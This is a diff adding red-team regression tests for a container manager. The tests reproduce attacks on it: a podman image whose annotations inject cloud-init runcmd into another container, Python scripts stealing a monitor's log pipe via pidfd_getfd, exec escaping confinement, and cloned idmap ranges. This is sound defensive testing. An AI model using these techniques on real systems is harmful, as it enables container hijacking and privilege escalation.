@@ -1,0 +1,341 @@
+// Red-team regression tests (redteam1): each attack below worked against the code of
+// wave1 (exec as lxc exec, the monitor, security.idmap.isolated, create/start and the
+// hooks). Each test states what must hold and fails today; the fix is not part of this
+// branch (see the red-team report). They are marked `todo` so that `npm test` stays green
+// while they fail (node:test reports them, failing, as TODO): whoever fixes a finding
+// removes the mark from its test (`openFinding`) and sees it pass.
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import fs from 'node:fs';
+import path from 'node:path';
+import { after, before, describe, type TestContext, test as nodeTest } from 'node:test';
+import { eventually, guestScript, hostCli, run, TestDaemon } from '../helpers/daemon.js';
+import { containersUnavailable } from '../helpers/env.js';
+import { devapolloCommand } from '../helpers/readme.js';
+import { OciHost, ociRuntimeUnavailable, PodmanHost, podmanUnavailable, sharedTempDir, systemPython } from '../helpers/runtimes.js';
+import { Terminal } from '../helpers/terminal.js';
+
+/** A test of a finding not fixed yet: skipped with `reason` when the machine cannot run it, else run as a TODO. */
+function openFinding(reason: string | false) {
+  return (name: string, fn: (t: TestContext) => Promise<void>) =>
+    nodeTest(name, { skip: reason, todo: reason ? false : 'red-team finding not fixed yet (remove openFinding with the fix)' }, fn);
+}
+
+/** Field NAME of /proc/PID/status. */
+function statusField(pid: number | 'self', name: string): string {
+  const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
+  return new RegExp(`^${name}:\\s*(.*)$`, 'm').exec(status)?.[1]?.trim() ?? '';
+}
+
+/** The same field out of a status text printed from inside. */
+function field(status: string, name: string): string {
+  return new RegExp(`^${name}:\\s*(.*)$`, 'm').exec(status)?.[1]?.trim() ?? '';
+}
+
+/** Host pids whose command line holds `marker`. */
+function pidsWith(marker: string): number[] {
+  const pids: number[] = [];
+  for (const entry of fs.readdirSync('/proc')) {
+    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue;
+    try {
+      if (fs.readFileSync(`/proc/${entry}/cmdline`, 'utf8').includes(marker)) pids.push(Number(entry));
+    } catch {
+      // Gone.
+    }
+  }
+  return pids;
+}
+
+/** Host pids whose parent is `parent`. */
+function childrenOf(parent: number): number[] {
+  const pids: number[] = [];
+  for (const entry of fs.readdirSync('/proc')) {
+    if (!/^\d+$/.test(entry)) continue;
+    try {
+      const stat = fs.readFileSync(`/proc/${entry}/stat`, 'utf8');
+      if (Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === parent) pids.push(Number(entry));
+    } catch {
+      // Gone.
+    }
+  }
+  return pids;
+}
+
+function alive(pid: number): boolean {
+  try {
+    const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
+    return !/^[ZX]$/.test(stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3));
+  } catch {
+    return false;
+  }
+}
+
+function killAll(pids: readonly number[]): void {
+  for (const pid of pids) {
+    try {
+      process.kill(pid, 'SIGKILL');
+    } catch {
+      // Gone.
+    }
+  }
+}
+
+// `devapollo exec` enters a registered container's namespaces as host root with every
+// capability, no seccomp filter, no no_new_privs and the caller's cgroups: a rootful OCI
+// container (capabilities dropped, seccomp) that planted a trojan binary got host root
+// the moment an admin ran that binary with devapollo exec (it mounted the host's disk).
+describe('red team: exec into a registered OCI container', () => {
+  const unavailable = ociRuntimeUnavailable('runc');
+  const test = openFinding(unavailable);
+  let daemon: TestDaemon;
+  let oci: OciHost;
+
+  before(async () => {
+    if (unavailable) return;
+    daemon = await TestDaemon.start();
+    oci = new OciHost('runc');
+    const r = await oci.run('confined', { dir: daemon.dir });
+    assert.equal(r.code, 0, r.stderr);
+  });
+
+  after(async () => {
+    await oci?.destroy();
+    await daemon?.destroy();
+  });
+
+  test("is refused, or runs with no more than the container's init: capabilities, no_new_privs, seccomp, cgroups", async () => {
+    const state = await oci.state('confined');
+    assert.ok(state !== undefined && state.pid > 0);
+    const r = await daemon.cli(['exec', 'confined', '-T', '--', '/usr/bin/cat', '/proc/self/status', '/proc/self/cgroup']);
+    if (r.code !== 0) {
+      assert.match(r.stderr, /^Error: /m, 'a refusal says why');
+      return;
+    }
+    const bounding = BigInt(`0x${statusField(state.pid, 'CapBnd')}`);
+    const effective = BigInt(`0x${field(r.out, 'CapEff')}`);
+    assert.equal(effective & ~bounding, 0n, `exec'd CapEff ${field(r.out, 'CapEff')} exceeds the init's bounding set ${statusField(state.pid, 'CapBnd')}`);
+    assert.equal(field(r.out, 'NoNewPrivs'), statusField(state.pid, 'NoNewPrivs'));
+    assert.equal(field(r.out, 'Seccomp'), statusField(state.pid, 'Seccomp'));
+    const cgroups = r.out.split('\n').filter((line) => /^\d+:/.test(line)).join('\n');
+    assert.equal(cgroups, fs.readFileSync(`/proc/${state.pid}/cgroup`, 'utf8').trim());
+  });
+});
+
+// podman copies an image's manifest annotations into the OCI state a hook reads, and the
+// README's hook matches any `devapollo.name`: an image pulled from anywhere chose the
+// name of another container (a `create`d one waiting for its runtime, or a registered
+// one that is stopped), read its cloud-init user-data, and rewrote its keys for good
+// (cloud-init.user-data, security.devapollo.users, with a new instance-id, so the real
+// container runs the image's runcmd at its next boot).
+describe("red team: a podman image's annotations", () => {
+  const test = openFinding(podmanUnavailable);
+  let daemon: TestDaemon;
+  let podman: PodmanHost;
+  let scratch: string;
+
+  before(async () => {
+    if (podmanUnavailable) return;
+    daemon = await TestDaemon.start();
+    podman = new PodmanHost();
+    scratch = sharedTempDir('devapollo-redteam-podman-');
+    const devapollo = devapolloCommand(scratch, [process.execPath, hostCli, '--dir', daemon.dir]);
+    fs.mkdirSync(path.join(scratch, 'hooks.d'));
+    for (const stage of ['createRuntime', 'poststop']) {
+      // The README's hook files.
+      fs.writeFileSync(
+        path.join(scratch, 'hooks.d', `devapollo-${stage}.json`),
+        JSON.stringify({
+          version: '1.0.0',
+          stages: [stage],
+          when: { annotations: { '^devapollo\\.name$': '.+' } },
+          hook: { path: devapollo, args: ['devapollo', 'hook', 'oci', stage], env: ['PATH=/usr/local/bin:/usr/bin:/bin'] },
+        }),
+      );
+    }
+    const rootfs = path.join(scratch, 'rootfs');
+    for (const dir of ['usr', 'proc', 'dev', 'sys', 'tmp', 'etc']) fs.mkdirSync(path.join(rootfs, dir), { recursive: true });
+    for (const link of ['bin', 'sbin', 'lib', 'lib64']) fs.symlinkSync(`usr/${link}`, path.join(rootfs, link));
+    const tar = path.join(scratch, 'rootfs.tar');
+    assert.equal((await run('tar', ['-C', rootfs, '-cf', tar, '.'])).code, 0);
+    const imported = await podman.podman(['import', tar, 'localhost/redteam-base']);
+    assert.equal(imported.code, 0, imported.stderr);
+    // The image an attacker publishes: annotations in its OCI manifest, nothing else.
+    const context = path.join(scratch, 'context');
+    fs.mkdirSync(context);
+    fs.writeFileSync(path.join(context, 'Containerfile'), 'FROM localhost/redteam-base\nCMD ["sleep", "infinity"]\n');
+    const built = await podman.podman([
+      'build', '--format', 'oci', '--no-cache',
+      '--annotation', 'devapollo.name=victim',
+      '--annotation', 'apollo.cloud-init.user-data=#cloud-config\nruncmd: [touch /pwned]\n',
+      '--annotation', 'apollo.security.devapollo.users=true',
+      '-t', 'localhost/redteam-evil', context,
+    ]);
+    assert.equal(built.code, 0, built.stderr);
+  });
+
+  after(async () => {
+    await podman?.destroy();
+    await daemon?.destroy();
+    if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
+  });
+
+  test("cannot bind to another container's name nor change its keys", async () => {
+    const userData = '#cloud-config\npassword: admin-secret\n';
+    assert.equal((await daemon.cli(['create', 'victim', '-c', `cloud-init.user-data=${userData}`])).code, 0);
+    const before = await daemon.cli(['config', 'show', 'victim', '--format', 'json']);
+    // The admin runs the image with no devapollo annotation of its own.
+    await podman.podman(['run', ...PodmanHost.hostRunArgs, '--hooks-dir', path.join(scratch, 'hooks.d'), '-d', '--name', 'innocent',
+      '-v', '/usr:/usr:ro', '-v', `${daemon.dir}/devapollo:/dev/apollo:ro`, 'localhost/redteam-evil']);
+    const list = JSON.parse((await daemon.cli(['list', '--format', 'json'])).out) as { name: string; state: string }[];
+    assert.notEqual(list.find((c) => c.name === 'victim')?.state, 'Running', 'the image bound itself to victim');
+    const afterwards = await daemon.cli(['config', 'show', 'victim', '--format', 'json']);
+    assert.equal(afterwards.out, before.out, "victim's keys changed");
+  });
+});
+
+// A container's root takes its init's stdout (the monitor's log pipe) with pidfd_getfd
+// and hands it over an abstract Unix socket (containers share the host's network
+// namespace) to a process of another container. The monitor then never sees the end of
+// its pipe: it outlives its container (host root processes pile up, one per start), and
+// once the container is deleted and a new one of that name launched, it rotates the new
+// container's log and writes the old container's output into it.
+describe('red team: a monitor whose log pipe is held outside its container', () => {
+  const unavailable = containersUnavailable || (fs.existsSync(systemPython) ? false : 'needs python3 (fd passing inside the containers)');
+  const test = openFinding(unavailable);
+  let daemon: TestDaemon;
+  const socketName = `devapollo-redteam-${randomBytes(6).toString('hex')}`;
+  const marker = `OLD-CONTAINER-${randomBytes(4).toString('hex')}`;
+  // Unique on the machine: other daemons' monitors are found by name too.
+  const victim = `v${randomBytes(6).toString('hex')}`;
+
+  before(async () => {
+    if (unavailable) return;
+    daemon = await TestDaemon.start({ args: ['--max-log-size', '65536'] });
+  });
+
+  after(async () => {
+    killAll(pidsWith(socketName));
+    await daemon?.destroy();
+  });
+
+  test('ends with its container, and a new container of the same name never gets the old one\'s output', async () => {
+    const holder = guestScript(
+      'redteam-holder.py',
+      [
+        'import socket, sys, time, os',
+        's = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
+        "s.bind('\\0' + sys.argv[1]); s.listen(1)",
+        'c, _ = s.accept()',
+        '_, fds, _, _ = socket.recv_fds(c, 16, 4)',
+        'while True:',
+        "    os.write(fds[0], (sys.argv[2] + '\\n').encode() * 50)",
+        '    time.sleep(0.05)',
+      ].join('\n'),
+    );
+    const giver = guestScript(
+      'redteam-giver.py',
+      [
+        'import socket, sys, os, ctypes',
+        'libc = ctypes.CDLL(None, use_errno=True)',
+        'fd = libc.syscall(438, os.pidfd_open(1), 1, 0)',
+        'assert fd >= 0, ctypes.get_errno()',
+        's = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
+        "s.connect('\\0' + sys.argv[1])",
+        "socket.send_fds(s, [b'x'], [fd])",
+      ].join('\n'),
+    );
+    await daemon.launch(victim);
+    await daemon.launch('holder');
+    const holding = daemon.exec('holder', [systemPython, holder, socketName, marker]);
+    holding.catch(() => undefined);
+    await eventually(async () => (await daemon.exec(victim, [systemPython, giver, socketName])).code === 0, 'the pipe is handed over');
+    const monitors = () => pidsWith(`devapollo-monitor ${victim}`);
+    assert.equal(monitors().length, 1);
+    assert.equal((await daemon.cli(['delete', '--force', victim])).code, 0);
+    await eventually(() => monitors().length === 0, "the deleted container's monitor exits");
+    await daemon.launch(victim);
+    const log = path.join(daemon.dir, 'logs', `${victim}.log`);
+    // Long enough for the old monitor to fill and rotate once (64 KiB at about 50 lines of 20 bytes each 50 ms).
+    await new Promise((resolve) => setTimeout(resolve, 3000));
+    for (const file of [log, `${log}.1`]) {
+      const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
+      assert.ok(!text.includes(marker), `${path.basename(file)} holds the deleted container's output`);
+    }
+  });
+});
+
+// Two records naming the same own range (a state file copied to clone a container, a
+// restored backup): both containers started with it, and each read the other's files.
+describe('red team: isolated ranges from the state files', () => {
+  const test = openFinding(containersUnavailable);
+  let daemon: TestDaemon;
+
+  before(async () => {
+    if (containersUnavailable) return;
+    daemon = await TestDaemon.start();
+  });
+
+  after(async () => {
+    await daemon?.destroy();
+  });
+
+  test('two containers never run with the same own range, whatever the records say', async () => {
+    await daemon.launch('first', { config: { 'security.idmap.isolated': 'true' } });
+    await daemon.signal('SIGTERM');
+    const dir = path.join(daemon.dir, 'containers');
+    const record = JSON.parse(fs.readFileSync(path.join(dir, 'first.json'), 'utf8')) as Record<string, unknown>;
+    fs.writeFileSync(path.join(dir, 'clone.json'), JSON.stringify({ ...record, name: 'clone', uuid: randomBytes(16).toString('hex'), init: null }), { mode: 0o600 });
+    let started = false;
+    try {
+      await daemon.spawn();
+      started = true;
+    } catch {
+      // Refusing to start on overlapping ranges, saying which, is one right answer.
+    }
+    if (!started) return;
+    const start = await daemon.cli(['start', 'clone']);
+    if (start.code !== 0) return;
+    const map = async (name: string) => (await daemon.exec(name, ['cat', '/proc/self/uid_map'])).out.trim();
+    assert.notEqual(await map('clone'), await map('first'), 'clone runs with first\'s own range');
+  });
+});
+
+// The command ignores SIGHUP, SIGTERM and SIGINT (its root may make it do so, ptracing
+// it): the CLI forwards those signals and nothing else, so a hung-up terminal (a closed
+// ssh session) leaves the CLI (about 65 MB) and its helper running for as long as the
+// container wants, and the helper outlives even a SIGKILL of the CLI.
+describe('red team: exec when the caller\'s terminal hangs up', () => {
+  const test = openFinding(containersUnavailable);
+  let daemon: TestDaemon;
+  const marker = `redteam-hup-${randomBytes(6).toString('hex')}`;
+
+  before(async () => {
+    if (containersUnavailable) return;
+    daemon = await TestDaemon.start();
+    await daemon.launch('hup');
+  });
+
+  after(async () => {
+    const clis = pidsWith(marker);
+    killAll([...clis.flatMap(childrenOf), ...clis]);
+    await daemon?.destroy();
+  });
+
+  test('the CLI and its helper end, even if the command ignores SIGHUP', async () => {
+    const terminal = new Terminal([process.execPath, hostCli, '--dir', daemon.dir, 'exec', 'hup', '-t', '--', 'sh', '-c',
+      `trap "" HUP TERM INT QUIT; echo READY; exec sleep 100000 # ${marker}`]);
+    try {
+      await terminal.waitFor(/READY/, 'the command to run');
+      // The CLI itself, not pty.pl, whose command line holds the same words.
+      const clis = pidsWith(marker).filter((pid) => fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').startsWith(`${process.execPath}\0`));
+      assert.equal(clis.length, 1);
+      const helpers = childrenOf(clis[0] ?? 0);
+      assert.ok(helpers.length > 0, 'the helper runs');
+      // The terminal goes away, as when an ssh session drops.
+      terminal.kill();
+      await eventually(() => [...clis, ...helpers].every((pid) => !alive(pid)), 'the CLI and its helper end', 30_000);
+    } finally {
+      terminal.kill();
+    }
+  });
+});
